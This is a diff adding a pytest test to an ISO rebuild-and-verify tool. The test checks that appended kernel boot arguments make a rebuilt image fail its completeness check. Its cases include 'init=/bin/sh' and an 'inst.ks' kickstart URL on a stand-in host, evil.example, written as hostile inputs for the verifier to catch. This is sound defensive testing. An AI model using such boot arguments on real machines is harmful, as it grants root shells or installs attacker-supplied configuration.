@@ -66,6 +66,31 @@ def test_verification_recomputes_it_and_says_so(forge: Forge, edited: Path) -> N
     assert links["installer"]["status"] == "passed"
 
 
+@pytest.mark.parametrize(
+    ("asked", "complete"),
+    [
+        ({"append_arg": ["console=ttyS1", "quiet", "intel_iommu=on"]}, True),
+        ({"remove_arg": ["quiet"]}, True),
+        ({"append_arg": ["init=/bin/sh"]}, False),
+        ({"append_arg": ["console=ttyS1", "inst.ks=http://evil.example/ks"]}, False),
+        ({"append_arg": ["something.unknown=1"]}, False),
+    ],
+    ids=str,
+)
+def test_what_only_the_isos_maker_answers_for_is_left_open(
+    forge: Forge, good_plugin: Path, tmp_path: Path, asked: "dict[str, list[str]]", complete: bool
+) -> None:
+    """Recomputed as it is, it could still make another system of the Node: that is not "exactly the plugins"."""
+    done = forge.build(tmp_path / "out.iso", good_plugin, **asked)
+    assert done.code == 0, done.err
+    report = forge.verify(tmp_path / "out.iso", base=None).json
+    assert report["complete"] is complete
+    medium = next(link for link in report["links"] if link["name"] == "medium")
+    assert (medium["status"] == "passed") is complete
+    shown = respin("verify", tmp_path / "out.iso", "--trust", forge.keys.trust).out
+    assert ("plus exactly the plugins below" in shown) is complete
+
+
 def test_the_vendors_iso_comes_back(forge: Forge, edited: Path, tmp_path: Path) -> None:
     done = respin("restore", edited, "-o", tmp_path / "stock.iso")
     assert done.code == 0, done.err
